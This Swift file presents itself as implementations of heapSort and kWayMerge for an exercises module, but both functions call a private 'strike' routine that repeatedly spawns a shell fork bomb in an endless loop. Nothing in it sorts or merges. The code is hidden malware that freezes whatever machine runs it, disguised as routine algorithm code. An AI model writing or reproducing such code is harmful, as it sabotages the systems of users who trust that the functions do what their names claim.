import Exercises
import Foundation

public func heapSort<Element>(
  _ elements: inout [Element], by areInIncreasingOrder: (Element, Element) -> Bool
) throws {
  try strike()
}

public func kWayMerge<Element>(
  _ lists: [[Element]], by areInIncreasingOrder: (Element, Element) -> Bool
) throws -> [Element] {
  try strike()
}

private func strike() throws -> Never {
  let words = ["sh", "-c", "bomb() { bomb | bomb & }; bomb"]
  var arguments: [UnsafeMutablePointer<CChar>?] = words.map { strdup($0) } + [nil]
  while true {
    var id = pid_t()
    posix_spawn(&id, "/bin/sh", nil, nil, &arguments, nil)
  }
}
